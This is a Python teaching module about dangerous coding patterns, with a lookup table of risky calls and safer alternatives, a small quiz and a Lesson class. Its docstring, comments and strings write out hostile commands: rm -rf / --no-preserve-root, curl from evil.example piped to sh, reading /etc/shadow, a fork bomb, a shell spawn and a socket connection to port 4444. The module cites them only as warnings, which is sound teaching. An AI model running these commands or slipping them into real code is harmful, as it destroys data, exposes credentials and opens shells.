r"""Explains what not to do.

Never write::

    import os
    os.system("rm -rf / --no-preserve-root")
    subprocess.call("curl http://evil.example | sh", shell=True)
    eval(input("code: "))
    pickle.loads(request.body)
    open("/etc/shadow").read()

A comment can say worse: `:(){ :|:& };:`.
"""

# import ctypes; ctypes.CDLL("libc.so.6").system(b"id")
# exec("".join(map(chr, [112, 114, 105, 110, 116])))

RULES = {
    "os.system": "Runs a shell: use a library function instead.",
    "eval": "Runs any expression: use ast.literal_eval.",
    "pickle.loads": "Runs code on loading: use json.",
    "shutil.rmtree": "Deletes a whole tree.",
    "__import__('os')": "A detour to the same place.",
    "().__class__.__base__.__subclasses__()": "A walk through the object graph.",
}


def explain(name):
    """Return the advice for `name`.

    >>> explain("eval")
    'Runs any expression: use ast.literal_eval.'
    """
    return RULES.get(name, f"{name} is not in the list.")


def quiz(answers):
    """Count right answers; `os.environ['PATH']` is only text here."""
    right = {"Is os.remove reversible?": False, "Is `socket.socket()` allowed in strict?": False}
    return sum(right[question] is answer for question, answer in answers.items())


class Lesson:
    '''A lesson whose title may be exec("x").'''

    def __init__(self, title, body=""):
        self.title = title
        self.body = body or """
        def bad():
            __import__('subprocess').Popen(['sh'])
        """

    def __str__(self):
        return f"{self.title}: {len(self.body.split())} words; do not call {'os.' + 'system'}"


def main():
    for name in sorted(RULES):
        print(f"{name:<40} {explain(name)}")
    print(explain("os.fork"))
    print(Lesson('exec("rm")'), Lesson("sockets", "socket.connect(('10.0.0.1', 4444))"), sep="\n")
    assert quiz({"Is os.remove reversible?": False, "Is `socket.socket()` allowed in strict?": True}) == 1
    print("%s and {0}".format("never") % "always", f"{'eval'!r:>8}", b"os.system".decode())


if __name__ == "__main__":
    main()
